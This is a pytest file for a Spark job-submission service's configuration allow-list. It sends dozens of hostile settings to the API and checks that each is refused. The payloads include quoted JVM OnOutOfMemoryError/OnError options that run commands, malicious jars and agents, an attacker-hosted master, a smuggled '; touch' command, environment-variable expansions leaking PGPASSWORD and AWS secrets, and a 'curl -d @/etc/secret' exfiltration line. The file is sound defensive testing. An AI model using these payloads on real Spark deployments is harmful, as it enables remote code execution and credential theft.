"""What a token holder may set in a submission's ``conf`` (issue 39 item 9): an allow-list of
keys and value shapes, JVM options split as Spark's launcher splits them. Each attack an
outside review ran (or the deny-list let through) is sent to the real API over a real
JobManager and SQLite store: 422 naming the key, no job made, so no driver runs the command."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from stoker.errors import InvalidInput
from stoker.manager import JobManager
from stoker.manager.confcheck import check_conf, parse_java_options
from stoker.server import create_app
from stoker.store import open_store


def _attacks(marker: Path) -> list[tuple[str, str]]:
    touch = f"touch {marker}"
    return [
        # The launcher removes the quotes: this is -XX:OnOutOfMemoryError=touch ...
        ("spark.driver.extraJavaOptions", f'-Xss16m -XX:"OnOutOfMemoryError={touch}"'),
        ("spark.driver.extraJavaOptions", f"-XX:'OnError={touch}'"),
        ("spark.driver.extraJavaOptions", f"-XX:On\\OutOfMemoryError=/usr/bin/{touch}"),
        ("spark.executor.extraJavaOptions", "-XX:Flags=/tmp/flags"),
        ("spark.executor.extraJavaOptions", "-Dspark.jars=/tmp/evil.jar"),
        ("spark.driver.extraJavaOptions", "-Dspark.plugins=org.evil.Plugin"),
        ("spark.driver.extraJavaOptions", "-cp /tmp/evil"),
        ("spark.driver.extraJavaOptions", "-javaagent:/tmp/a.jar"),
        ("spark.driver.extraJavaOptions", "-agentpath:/tmp/a.so"),
        ("spark.driver.extraJavaOptions", "-Dlog4j2.configurationFile=/tmp/l.xml"),
        ("spark.driver.extraJavaOptions", "-Dcom.sun.management.jmxremote.port=9999"),
        ("spark.driver.extraJavaOptions", "@/tmp/argfile"),
        ("spark.driver.defaultJavaOptions", f'-XX:"OnOutOfMemoryError={touch}"'),
        ("spark.sql.execution.pyspark.python", "/usr/bin/touch"),
        ("spark.python.daemon.module", "evil"),
        ("spark.python.worker.module", "evil"),
        ("spark.pyspark.python", "/usr/bin/touch"),
        ("spark.pyspark.driver.python", "/usr/bin/touch"),
        ("spark.jars", "/tmp/evil.jar"),
        ("spark.jars.packages", "org.evil:evil:1.0"),
        ("spark.plugins", "org.evil.Plugin"),
        ("spark.sql.catalog.evil", "org.evil.Catalog"),
        ("spark.sql.extensions", "org.evil.Ext"),
        ("spark.ui.filters", "org.evil.Filter"),
        ("spark.eventLog.dir", "/tmp/evil"),
        ("spark.driver.extraClassPath", "/tmp"),
        ("spark.executorEnv.LD_PRELOAD", "/tmp/evil.so"),
        ("spark.master", "spark://attacker.example:7077"),
        ("stoker.master", "yarn"),
        ("spark.sql.streaming.streamingQueryListeners", "org.evil.L"),
        ("spark.sql.streaming.checkpointFileManagerClass", "org.evil.M"),
        ("spark.shuffle.manager", "org.evil.Shuffle"),
        ("spark.serializer", "org.evil.Serializer"),
        ("spark.hadoop.fs.s3a.aws.credentials.provider", "org.evil.Creds"),
        ("spark.sql.shuffle.partitions", "4; touch /tmp/x"),
        # Expanded by Spark and Hadoop when read: the manager's environment into the conf.
        ("spark.app.name", "${env:PGPASSWORD}"),
        ("spark.hadoop.fs.s3a.access.key", "${env.AWS_SECRET_ACCESS_KEY}"),
    ]


def test_the_launcher_split_removes_quotes_as_spark_does() -> None:
    assert parse_java_options("-XX:\"OnOutOfMemoryError=touch /x\" -Da='b c'") == [
        "-XX:OnOutOfMemoryError=touch /x",
        "-Da=b c",
    ]
    assert parse_java_options('a\\ b "c\\"d" \'e\\f\'') == ["a b", 'c"d', "e\\f"]
    assert parse_java_options('""') == [""]
    with pytest.raises(ValueError):
        parse_java_options('-Dx="open')


def test_every_attack_is_422_naming_the_key_and_nothing_is_made(tmp_path: Path) -> None:
    app = tmp_path / "apps" / "app.py"
    app.parent.mkdir()
    app.write_text("print('never run here')\n")
    marker = tmp_path / "pwned"
    store = open_store(f"sqlite:///{tmp_path / 's.db'}")
    manager = JobManager(store, tmp_path / "state", [app.parent])
    try:
        with TestClient(create_app(manager)) as client:
            for i, (key, value) in enumerate(_attacks(marker)):
                body = {"job_id": f"j{i}", "entrypoint": str(app), "conf": {key: value}}
                r = client.post("/v1/jobs", json=body)
                assert r.status_code == 422, (key, value, r.text)
                assert r.json()["error"].startswith(f"conf.{key}:"), (key, value, r.text)
                assert "--allow-conf" in r.json()["error"], r.text
                app_body = {"app_id": f"a{i}", "entrypoint": str(app), "conf": {key: value}}
                r = client.post("/v1/applications", json=app_body)
                assert r.status_code == 422, (key, value, r.text)
            assert store.list_jobs() == []  # nothing made: no driver, no command
        assert not marker.exists()
    finally:
        manager.close()
        store.close()


ACCEPTED = {
    "spark.driver.extraJavaOptions": "-Xss16m -XX:TieredStopAtLevel=1 -XX:+UseSerialGC "
    "-Dfoo=bar -Dfile.encoding=UTF-8 '-XX:+UseG1GC'",
    "spark.executor.extraJavaOptions": "-Xss16m -XX:-OmitStackTraceInFastThrow",
    "spark.master": "local[2]",
    "stoker.master": "local[*]",
    "spark.sql.shuffle.partitions": "4",
    "spark.executor.memory": "512m",
    "spark.cores.max": "1",
    "spark.ui.enabled": "true",
    "spark.ui.port": "0",
    "spark.driver.host": "127.0.0.1",
    "spark.sql.session.timeZone": "Europe/Paris",
    "spark.sql.streaming.noDataProgressEventInterval": "1000",
    "spark.sql.streaming.stateStore.providerClass": (
        "org.apache.spark.sql.execution.streaming.state.RocksDBStateStoreProvider"
    ),
    "spark.speculation.quantile": "0.9",
    "spark.storage.decommission.replicationReattemptInterval": "1s",
    "spark.hadoop.fs.s3a.secret.key": "abc/DEF+ghi==",
    "stoker.trigger": "1s",
}


def test_tuning_settings_pass(tmp_path: Path) -> None:
    check_conf(ACCEPTED)
    check_conf({"spark.master": "spark://127.0.0.1:7077,localhost:7078"})


def test_the_operator_extends_the_list_with_allow_conf(tmp_path: Path) -> None:
    app = tmp_path / "apps" / "app.py"
    app.parent.mkdir()
    app.write_text("")
    allowed = (
        "spark.mongodb",  # a key and its sub-keys
        "spark.sql.catalog.lake*",  # a prefix
        "spark.master=spark://spark.example:7077",  # one value of a key
    )
    store = open_store(f"sqlite:///{tmp_path / 's.db'}")
    manager = JobManager(store, tmp_path / "state", [app.parent], allowed_conf=allowed)
    try:
        with TestClient(create_app(manager)) as client:
            conf = {
                "spark.mongodb.read.connection.uri": "mongodb://db.example/x",
                "spark.sql.catalog.lake": "org.apache.iceberg.spark.SparkCatalog",
                "spark.sql.catalog.lakehouse.type": "hadoop",
                "spark.master": "spark://spark.example:7077",
            }
            r = client.post("/v1/jobs", json={"job_id": "ok", "entrypoint": str(app), "conf": conf})
            assert r.status_code == 201, r.text
            for key, value in (
                ("spark.master", "spark://other.example:7077"),  # another value: refused
                ("spark.mongodbx", "1"),  # not a sub-key of spark.mongodb
                ("spark.sql.catalog.other", "org.x.C"),
            ):
                body = {"job_id": "no", "entrypoint": str(app), "conf": {key: value}}
                r = client.post("/v1/jobs", json=body)
                assert r.status_code == 422 and f"conf.{key}:" in r.text, (key, r.text)
            assert [j.job_id for j in store.list_jobs()] == ["ok"]
    finally:
        manager.close()
        store.close()


def test_a_refusal_names_the_option_not_the_whole_value() -> None:
    with pytest.raises(InvalidInput) as e:
        check_conf({"spark.driver.extraJavaOptions": '-XX:"OnError=curl -d @/etc/secret x"'})
    assert "'-XX:OnError'" in e.value.message and "/etc/secret" not in e.value.message
    with pytest.raises(InvalidInput) as e:
        check_conf({"spark.driver.extraJavaOptions": "-Xmx4g"})
    assert "spark.driver.memory" in e.value.message
